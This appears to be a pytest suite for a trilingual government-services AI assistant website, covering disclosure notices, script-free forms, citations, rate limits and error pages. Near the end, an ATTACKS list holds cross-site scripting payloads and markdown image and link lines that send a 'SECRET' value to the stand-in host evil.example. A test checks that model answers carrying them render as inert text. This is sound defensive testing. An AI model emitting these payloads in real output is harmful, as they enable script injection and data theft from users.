"""Do the pages work for a citizen without JavaScript, in three languages?"""

import html
import json
import re
from dataclasses import replace

import pytest
from starlette.testclient import TestClient

from jauap.answer import Answer, Outcome, Texts, Turn
from jauap.api.app import create_app
from jauap.assistant import Language, Trilingual
from jauap.settings import Settings
from jauap.testing.runtime import Asked, FakeDesk, FakeRuntime
from jauap.testing.samples import sample_answer, sample_assistant, sample_passages

PAGE = "/a/public_services"
QUESTION = "Баланың тууын қалай тіркеуге болады?"


@pytest.fixture
def runtime() -> FakeRuntime:
    return FakeRuntime()


@pytest.fixture
def client(runtime: FakeRuntime) -> TestClient:
    return TestClient(create_app(runtime))


@pytest.mark.parametrize(
    ("language", "notice", "button"),
    [
        ("kk", "Сіз жасанды интеллект жүйесімен сөйлесіп отырсыз", "Сұрау"),
        ("ru", "Вы общаетесь с системой искусственного интеллекта", "Спросить"),
        ("en", "You are talking to an artificial intelligence system", "Ask"),
    ],
)
def test_the_notice_is_the_first_thing_in_the_main_part(
    client: TestClient, language: str, notice: str, button: str
) -> None:
    page = client.get(f"{PAGE}?lang={language}").text
    main = page[page.index("<main") :]
    first = re.search(r'<div role="note"[^>]*>', main)
    assert first is not None
    assert f'lang="{language}"' in first.group()
    assert notice in main
    assert main.index(notice) < main.index("<h1")
    assert f"{button}</button>" in main
    assert f'<html lang="{language}">' in page
    assert "tel:1414" in page


def test_the_language_follows_the_browser_until_a_person_chooses(client: TestClient) -> None:
    assert '<html lang="kk">' in client.get("/").text
    assert '<html lang="ru">' in client.get("/", headers={"Accept-Language": "ru-KZ"}).text
    assert '<html lang="en">' in client.get("/?lang=en", headers={"Accept-Language": "ru"}).text


def test_the_start_page_leads_to_every_assistant(client: TestClient) -> None:
    page = client.get("/?lang=ru").text
    assert 'href="/a/agriculture?lang=ru"' in page
    assert 'href="/a/public_services?lang=ru"' in page


@pytest.mark.parametrize("language", Language)
def test_a_form_without_script_brings_the_labelled_answer(
    client: TestClient, runtime: FakeRuntime, language: Language
) -> None:
    response = client.post(f"{PAGE}?lang={language}", data={"question": "?"})
    answer = sample_answer(language)
    page = response.text
    article = page[page.index("<article") : page.index("</article>")]
    (code,) = runtime.records.held
    assert f'lang="{language}" ai-disclosure="ai-generated"' in article
    assert f'data-ai-label="{code}"' in article
    assert article.index('role="note"') < article.index('class="body"')
    assert f'href="/v/{code}?lang={language}"' in article
    assert article.count("<blockquote") == 2
    assert 'cite="https://example.gov.kz/births"' in article
    first = answer.citations[0]
    assert f"from={first.start}&amp;to={first.end}#p-{first.start}" in article
    assert '<meta name="ai-disclosure" content="mixed">' in page
    assert runtime.asked[0].channel == "web"
    described = re.search(r'<script type="application/ld\+json">(.*?)</script>', page)
    assert described is not None
    assert json.loads(described[1])["identifier"] == code


def test_earlier_questions_travel_with_the_form(client: TestClient, runtime: FakeRuntime) -> None:
    page = client.post(PAGE, data={"question": "Бірінші", "earlier": "Нөлінші"}).text
    assert re.findall(r'name="earlier" value="(.*?)"', page) == ["Нөлінші", "Бірінші"]
    assert runtime.asked[0].history == (Turn(question="Нөлінші"),)


@pytest.mark.parametrize(
    ("question", "words"),
    [("", "Алдымен сұрағыңызды жазыңыз."), (" \n", "Алдымен"), ("қ" * 2001, "2000 таңбадан")],
)
def test_a_question_that_cannot_be_sent_stays_in_the_box(
    client: TestClient, runtime: FakeRuntime, question: str, words: str
) -> None:
    response = client.post(PAGE, data={"question": question})
    assert response.status_code == 422
    assert words in response.text
    assert f">{question}</textarea>" in response.text
    assert runtime.asked == []


def test_a_refused_question_stays_in_the_box() -> None:
    runtime = FakeRuntime(settings=Settings(questions_per_minute=1))
    client = TestClient(create_app(runtime))
    client.post(PAGE, data={"question": QUESTION})
    response = client.post(PAGE, data={"question": "Екінші сұрақ"})
    assert response.status_code == 429
    assert ">Екінші сұрақ</textarea>" in response.text
    assert "Сұрағыңыз өрісте сақталды." in response.text
    assert "Retry-After" in response.headers


def test_options_asked_back_become_buttons(client: TestClient, runtime: FakeRuntime) -> None:
    def say(asked: Asked) -> Answer:
        answer = sample_answer(Language.KK, Outcome.ASKED_BACK)
        listed = "Қайсысы?\n\n- Құжат «А» & Б\n- Екінші"
        return Answer(
            **{**vars(answer), "text": listed, "options": ("Құжат «А» & Б", "Екінші", "Үшінші")}
        )

    runtime.say = say
    page = client.post(PAGE, data={"question": QUESTION}).text
    article = page[page.index("<article") : page.index("</article>")]
    buttons = [html.unescape(one) for one in re.findall(r'data-ask="(.*?)"', article)]
    assert buttons == ["Құжат «А» & Б", "Екінші", "Үшінші"]
    assert article.count("Екінші</button>") == 1


def test_an_assistant_greets_in_its_own_words() -> None:
    greeting = Trilingual(
        kk="Қош келдіңіз!", ru="Добро пожаловать! Я отвечаю о субсидиях.", en="Welcome!"
    )
    runtime = FakeRuntime()
    texts = Texts(schema=1, greeting=greeting)
    runtime.desks["public_services"] = FakeDesk(assistant=sample_assistant(), texts=texts)
    page = TestClient(create_app(runtime)).get(f"{PAGE}?lang=ru").text
    assert "Добро пожаловать!</h1>" in page
    assert '<p class="lead">Я отвечаю о субсидиях.</p>' in page


def test_only_a_document_that_is_no_sample_is_said_to_be_free_of_ai(
    client: TestClient, runtime: FakeRuntime, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = f"{PAGE}/d/birth-registration.kk"
    assert "ai-disclosure" not in client.get(path).text
    official = tuple(replace(one, sample=False) for one in sample_passages())
    monkeypatch.setattr(runtime, "passages_of", lambda assistant_id, document_id: official)
    page = client.get(path).text
    assert '<article class="document" lang="kk" ai-disclosure="none">' in page
    assert '<meta name="ai-disclosure" content="none">' in page


def test_a_document_opens_with_the_cited_passage_marked(client: TestClient) -> None:
    path = f"{PAGE}/d/birth-registration.kk?lang=ru&from=63&to=130"
    page = client.get(path).text
    assert '<article class="document" lang="kk">' in page
    cited = re.search(r'<div class="passage cited" id="p-63".*?</div>', page, re.DOTALL)
    assert cited is not None
    assert "<mark>Ата-анасының жеке куәлігі." in cited.group()
    assert page.count("<mark>") == 1
    assert "На это место опирается ответ" in page
    assert "Образец — не официальная информация" in page
    for words in ("Мерзімі</h2>", "Құжаттар</h2>", "Нәтижесі</h2>"):
        assert words in page


def test_a_document_without_a_place_marks_nothing(client: TestClient) -> None:
    assert "<mark>" not in client.get(f"{PAGE}/d/birth-registration.kk").text


@pytest.mark.parametrize("path", ["/a/nobody", "/a/public_services/d/none.kk", "/a/x/d/none.kk"])
def test_an_unknown_page_is_a_404_page_in_the_readers_language(
    client: TestClient, path: str
) -> None:
    response = client.get(f"{path}?lang=en")
    assert response.status_code == 404
    assert response.headers["content-type"].startswith("text/html")
    assert "There is no such page" in response.text


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "![q](https://evil.example/?d=SECRET)",
    "[x](https://evil.example/?d=SECRET)",
    "<https://evil.example/?d=SECRET>",
    "[x](//evil.example)",
    "[x][1]\n\n[1]: https://evil.example/?d=SECRET",
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_answer_that_carries_an_attack_stays_text(
    client: TestClient, runtime: FakeRuntime, attack: str
) -> None:
    runtime.say = lambda asked: Answer(
        **{**vars(sample_answer(Language.KK)), "text": f"Сәлем {attack}"}
    )
    page = client.post(PAGE, data={"question": attack}).text
    body = page[page.index('<div class="body">') : page.index('<div class="sources"')]
    assert "evil.example" not in " ".join(re.findall(r'(?:href|src)="(.*?)"', page))
    for tag in ("<script", "<img", "<iframe", "<svg", 'javascript:alert(1)"', "onerror=alert(1)>"):
        assert tag not in body
    assert '<p class="asked"' in page
    assert "<script>alert" not in page


def test_links_to_the_answers_own_sources_stay(client: TestClient, runtime: FakeRuntime) -> None:
    runtime.say = lambda asked: Answer(
        **{**vars(sample_answer(Language.KK)), "text": "[бет](https://example.gov.kz/births) [1]"}
    )
    page = client.post(PAGE, data={"question": "?"}).text
    (code,) = runtime.records.held
    body = page[page.index('<div class="body">') : page.index('<div class="sources"')]
    assert re.findall(r'href="(.*?)"', body) == ["https://example.gov.kz/births", f"#s-{code}-1"]
